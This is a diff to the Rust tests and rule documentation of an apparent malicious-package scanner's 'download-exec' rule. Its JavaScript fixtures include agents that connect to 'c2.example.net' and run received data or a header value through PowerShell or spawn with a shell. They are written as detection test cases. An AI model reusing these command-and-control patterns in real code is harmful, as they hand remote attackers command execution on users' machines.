@@ -54,7 +54,10 @@ diligence_finding::declare_rule! {
     /// a download written to a place that runs it. Code generators calling `Function` by name with template-built
     /// code, and wasm codecs whose data segments name no module and hold no command, are not decoded as hidden code.
     /// Tag loaders (analytics, consent, chat widgets) point a `<script>` at a URL in the clear, and QR and image
-    /// decoders return the text they read: neither is reported.
+    /// decoders return the text they read: neither is reported. Browser installers that unpack a download with
+    /// a constant shell script taking the archive's path as an argument (`powershell -Command '& { Expand-Archive
+    /// $args[0] … }'`), and downloaders that follow a redirect's `Location` with a download command, are medium:
+    /// the network data is an argument or a URL there, not the command.
     pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
 }
 
@@ -500,6 +503,60 @@ mod tests {
             (
                 "agent.js",
                 "const https = require('https');\nconst { exec } = require('child_process');\nhttps.get('https://c2.example.net/ping', (res) => {\n  exec(`powershell \"${res.headers['x-task']}\"`);\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A CLI names its helpers with `Object.defineProperty(fn, 'name', …)` (a bundler's
+    /// `__name`), connects to its parent over a local pipe whose path one helper builds, and
+    /// spawns a program at a path built by the same helper: naming a function does not call
+    /// it, so the connection's data never reaches the helper's parameter.
+    #[test]
+    fn negative_named_helper_shared_by_a_connection_and_a_spawn() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "pipe.mjs",
+                "const name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nexport const pipePath = name((pid) => `/tmp/app-${pid}.pipe`, 'pipePath');\n",
+            ),
+            (
+                "client.mjs",
+                "import net from 'node:net';\nimport { pipePath } from './pipe.mjs';\nconst p = pipePath(process.ppid);\nconst sock = net.createConnection(p, () => {});\nsock.on('error', () => {});\n",
+            ),
+            (
+                "cli.mjs",
+                "import { spawn } from 'node:child_process';\nimport { pipePath } from './pipe.mjs';\nspawn(pipePath(process.pid), []);\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    /// Two functions named through one `__name`-style helper stay apart: received data given
+    /// to the formatter does not reach the runner (the helper returns what it names).
+    #[test]
+    fn negative_functions_named_by_one_helper_stay_apart() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "cli.js",
+                "const { spawn } = require('child_process');\nconst net = require('net');\nconst name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nconst run = name((cmd) => spawn(cmd, { shell: true }), 'run');\nconst label = name((x) => `[${x}]`, 'label');\nconst sock = net.createConnection(4444, 'c2.example.net');\nsock.on('data', (d) => console.log(label(String(d))));\nrun('git status');\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    /// The same named helper handed what a connection received does run it.
+    #[test]
+    fn positive_named_helper_given_received_data() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "run.mjs",
+                "import net from 'node:net';\nimport { spawn } from 'node:child_process';\nconst name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nconst run = name((cmd) => spawn(cmd, { shell: true }), 'run');\nconst sock = net.createConnection(4444, 'c2.example.net');\nsock.on('data', (d) => run(String(d)));\n",
             ),
         ]);
         assert_eq!(
